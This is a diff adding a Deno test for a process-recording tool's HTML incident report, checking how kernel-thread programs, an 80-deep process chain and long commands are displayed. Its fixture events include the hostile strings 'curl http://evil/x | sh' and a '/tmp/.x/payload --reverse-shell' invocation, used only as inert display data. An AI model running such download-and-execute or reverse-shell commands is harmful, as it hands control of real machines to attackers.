@@ -876,3 +876,102 @@ Deno.test("report: hostile argv and image names are shown as text, never run or 
     });
   });
 });
+
+Deno.test("report: a program a kernel thread started shows at first; a row 80 deep shows its depth and its command in its column; a long command is cut in its row, whole in the details (found by review)", async () => {
+  const events: ProcEvent[] = [
+    {
+      kind: "process_snapshot",
+      t: 0,
+      pid: 2,
+      tid: 2,
+      ppid: 0,
+      start: -5_000 * MS,
+      info: { comm: "kthreadd", from: {} },
+    },
+    {
+      kind: "process_snapshot",
+      t: 0,
+      pid: 10,
+      tid: 10,
+      ppid: 2,
+      start: -4_000 * MS,
+      info: { comm: "kworker/0:0", from: {} },
+    },
+  ];
+  // a chain 80 deep, its last a shell that pipes a download to a shell
+  for (let d = 0; d < 80; d++) {
+    events.push(processCreate(1 * MS + d, 1000 + d, d === 0 ? 1 : 999 + d));
+  }
+  events.push({
+    kind: "exec",
+    t: 2 * MS,
+    pid: 1079,
+    tid: 1079,
+    info: {
+      image: "/usr/bin/dash",
+      argv: ["sh", "-c", "curl http://evil/x | sh"],
+      from: {},
+    },
+  });
+  const long = "A".repeat(5000);
+  events.push(processCreate(3 * MS, 600, 1), {
+    kind: "exec",
+    t: 3 * MS + 1,
+    pid: 600,
+    tid: 600,
+    info: { image: "/usr/bin/echo", argv: ["echo", long], from: {} },
+  });
+  // the newest: a program the kworker started (a usermode helper's way)
+  events.push(processCreate(9 * MS, 500, 10), {
+    kind: "exec",
+    t: 9 * MS + 1,
+    pid: 500,
+    tid: 500,
+    info: {
+      image: "/tmp/.x/payload",
+      argv: ["payload", "--reverse-shell"],
+      from: {},
+    },
+  });
+  await inTempDir(async (dir) => {
+    await writeIncident(`${dir}/k.cbor`, events);
+    const r = await procrec(["report", "k.cbor", "-o", "k.html"], { cwd: dir });
+    assertEquals(r.code, 0, r.stderr);
+    await withPage(`${dir}/k.html`, async (page, _requests, errors) => {
+      const first = await rowCommands(page);
+      assert(
+        first.includes("payload --reverse-shell"),
+        `the kworker's program is shown at first: ${first.join(" | ")}`,
+      );
+      // the long command: its first 2,000 characters in the row
+      await page.fill("#search", "echo");
+      await page.press("#search", "Enter");
+      const echo = page.locator(".row.sel .cmd");
+      await echo.waitFor();
+      assertEquals(
+        await echo.textContent(),
+        `echo ${
+          "A".repeat(1995)
+        }\u2026 (3005 more characters: see the details)`,
+      );
+      assert(
+        (await page.textContent("#details"))!.includes(`echo ${long}`),
+        "the details hold the whole command",
+      );
+      // the row 80 deep: its depth marked, its command inside its column
+      await page.click("#expandall");
+      await page.fill("#search", "curl");
+      await page.press("#search", "Enter");
+      const deep = page.locator(".row.sel");
+      await deep.waitFor();
+      assertEquals(await deep.locator(".deep").textContent(), "depth 79 ");
+      const cmd = (await deep.locator(".cmd").boundingBox())!;
+      const pid = (await deep.locator(".pid").boundingBox())!;
+      assert(
+        cmd.x + 20 < pid.x,
+        `the command begins in its column: ${cmd.x} against ${pid.x}`,
+      );
+      assertEquals(errors, [], "no page errors");
+    });
+  });
+});
